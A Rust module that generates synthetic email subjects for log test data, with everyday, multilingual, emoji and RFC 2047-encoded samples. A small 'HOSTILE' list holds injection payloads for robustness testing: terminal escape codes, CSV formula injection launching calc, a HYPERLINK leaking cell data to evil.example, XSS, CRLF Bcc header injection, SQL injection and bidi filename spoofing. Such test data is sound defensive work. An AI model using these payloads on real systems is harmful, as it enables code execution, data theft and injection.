//! Subjects as people, machines and attackers write them.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::random::Random;

/// A subject, as logged and as read.
#[derive(Clone, Debug, Default)]
pub(super) struct Subject {
    pub(super) logged: String,
    pub(super) read: String,
}

const EVERYDAY: [&str; 32] = [
    "Invoice #",
    "Your order #",
    "Meeting notes, week #",
    "Re: contract draft #",
    "Quarterly report Q#",
    "Lunch on Friday?",
    "Fwd: holiday schedule",
    "Offer # for the new offices",
    "Password reset",
    "Your parcel # is on its way",
    "Newsletter #",
    "Re: Re: server maintenance window #",
    "Application for position #",
    "Minutes of the board meeting",
    "Reminder: timesheet for week #",
    "Ticket #: printer does not answer",
    "Budget 2027, version #",
    "Welcome on board!",
    "Flight confirmation #",
    "Price list for #",
    "Request for quotation #",
    "Out of office",
    "Security alert: new sign-in",
    "Build # failed",
    "Payment received (ref. #)",
    "Project kick-off",
    "Photos from the offsite",
    "Question about clause #",
    "Survey: how did we do?",
    "Change of address",
    "Re: sizing of pump #",
    "Thank you!",
];

const WORLD: [&str; 34] = [
    "Rechnung Nr. # über die Lieferung",
    "Größenänderung der Straßenbahnhaltestelle #",
    "Einladung zur Jahreshauptversammlung",
    "Kündigung Vertrag # – Bestätigung",
    "Überweisung # wurde ausgeführt",
    "Donaudampfschifffahrtsgesellschaft, Angebot #",
    "Facture n° # – échéance à régler",
    "Réunion reportée à l’été",
    "Presupuesto nº # año 2027",
    "¿Mañana a las #?",
    "Fatura # – avaliação",
    "Zamówienie nr # – potwierdzenie",
    "发票 # 已开具",
    "关于下周会议的通知",
    "您的订单 # 已发货",
    "季度报告（第#季度）",
    "緊急：系統維護通知",
    "請求書 # のご送付",
    "会議の日程について",
    "【重要】パスワード再設定のお願い",
    "お見積り # の件",
    "ﾃｽﾄﾒｰﾙ #",
    "청구서 # 안내",
    "다음 주 회의 일정",
    "견적 요청 # 건",
    "فاتورة رقم #",
    "دعوة إلى اجتماع الأسبوع القادم",
    "חשבונית מס׳ #",
    "Счёт № # на оплату",
    "Τιμολόγιο #",
    "ใบแจ้งหนี้ #",
    "चालान #",
    "Hóa đơn số #",
    "Árvíztűrő tükörfúrógép #",
];

const EMOJI: [&str; 8] = [
    "🎉 Sale ends tonight: #% off",
    "🚀 Release # is out",
    "⚠️ Disk almost full on host #",
    "Happy birthday 🎂👩‍👩‍👧‍👦",
    "✅ Done: task #",
    "Re: 👍",
    "Flüge ab # € ✈️",
    "🇩🇪🇯🇵 Reise #",
];

/// Attacks on log readers: terminals, spreadsheets, browsers, and people.
const HOSTILE: [&str; 16] = [
    "\u{1b}[31mYour account is locked\u{1b}[0m",
    "\u{1b}]0;owned\u{7}Title",
    "\u{1b}[2J\u{1b}[Hgone",
    "=HYPERLINK(\"http://evil.example/\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "Invoice \u{202e}fdp.exe",
    "\u{2066}hidden\u{2069} text",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "line\r\nBcc: victim@far.example",
    "tab\tand\0null",
    "zero\u{200b}width\u{feff}",
    "'; DROP TABLE messages; --",
    "Z\u{351}\u{36b}\u{343}a\u{36a}lgo",
];

/// Subjects encoded by other mailers, with their decoded form.
const FOREIGN_ENCODED: [(&str, &str); 6] = [
    ("=?iso-8859-1?Q?Gr=FC=DFe_aus_M=FCnchen?=", "Grüße aus München"),
    ("=?ISO-8859-1?B?UmVjaG51bmcgZvxyIEplcg==?=", "Rechnung für Jer"),
    ("=?utf-8?q?Caf=C3=A9_am_Eck?=", "Café am Eck"),
    ("=?ISO-2022-JP?B?GyRCJCpDTiRpJDsbKEI=?=", "お知らせ"),
    ("=?GB2312?B?1tjSqs2o1qo=?=", "重要通知"),
    ("=?windows-1251?B?0fe48iDt4CDu7+vg8vM=?=", "Счёт на оплату"),
];

/// Makes up a subject.
pub(super) fn subject(random: &mut Random) -> Subject {
    let template = match random.below(1_000) {
        0..=659 => random.pick(&EVERYDAY),
        660..=909 => random.pick(&WORLD),
        910..=959 => random.pick(&EMOJI),
        960..=979 => {
            let (logged, read) = random.pick(&FOREIGN_ENCODED);
            return Subject { logged: logged.to_owned(), read: read.to_owned() };
        }
        980..=989 => random.pick(&HOSTILE),
        990..=996 => "",
        _ => return long_subject(random),
    };
    let read = fill(template, random);
    // No public source says whether WorkMail logs a subject decoded or as in the header, so both
    // occur.
    if !read.is_ascii() && random.chance(2_000) {
        return Subject { logged: encoded(&read, random), read };
    }
    Subject { logged: read.clone(), read }
}

/// Replaces the `#` of a template by a number.
fn fill(template: &str, random: &mut Random) -> String {
    let Some((before, after)) = template.split_once('#') else {
        return template.to_owned();
    };
    format!("{before}{}{after}", random.below(9_999) + 1)
}

fn long_subject(random: &mut Random) -> Subject {
    let mut read = String::with_capacity(1_000);
    while read.len() < 900 {
        read.push_str(&fill(random.pick(&EVERYDAY), random));
        read.push(' ');
    }
    Subject { logged: read.clone(), read }
}

/// Bytes of text in one encoded word: RFC 2047 allows 75 characters for the whole word.
const BASE64_WORD_BYTES_MAX: usize = 42;
/// The same if a byte may take three characters.
const QUOTED_WORD_BYTES_MAX: usize = 20;

/// Encodes as RFC 2047 demands, splitting only between characters.
fn encoded(text: &str, random: &mut Random) -> String {
    let is_base64 = random.chance(6_000);
    let bytes_max = if is_base64 { BASE64_WORD_BYTES_MAX } else { QUOTED_WORD_BYTES_MAX };
    let mut logged = String::new();
    let mut word = String::new();
    for character in text.chars() {
        if word.len() + character.len_utf8() > bytes_max {
            push_encoded_word(&mut logged, &word, is_base64);
            word.clear();
        }
        word.push(character);
    }
    push_encoded_word(&mut logged, &word, is_base64);
    logged
}

fn push_encoded_word(logged: &mut String, word: &str, is_base64: bool) {
    if !logged.is_empty() {
        logged.push(' ');
    }
    if is_base64 {
        logged.push_str("=?UTF-8?B?");
        STANDARD.encode_string(word, logged);
    } else {
        logged.push_str("=?UTF-8?Q?");
        for byte in word.bytes() {
            match byte {
                b' ' => logged.push('_'),
                b'a'..=b'z' | b'A'..=b'Z' | b'0'..=b'9' => logged.push(char::from(byte)),
                _ => logged.push_str(&format!("={byte:02X}")),
            }
        }
    }
    logged.push_str("?=");
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::event::decoded_subject;

    #[test]
    fn encoded_subjects_read_as_the_truth_says() {
        let mut random = Random::new(3);
        for _ in 0..5_000 {
            let subject = subject(&mut random);
            if subject.logged.starts_with("=?") {
                assert_eq!(decoded_subject(&subject.logged), subject.read);
            }
        }
    }
}
